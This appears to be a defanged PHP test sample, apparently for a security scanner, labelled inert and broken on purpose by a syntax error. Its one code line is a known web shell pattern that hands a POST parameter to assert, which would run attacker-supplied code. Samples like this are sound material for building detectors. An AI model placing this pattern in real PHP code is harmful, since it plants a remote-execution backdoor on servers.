<?php
shodo inert sample: deliberate syntax error, this file never runs
 array_filter(array($_POST['x']), 'assert'); ?>
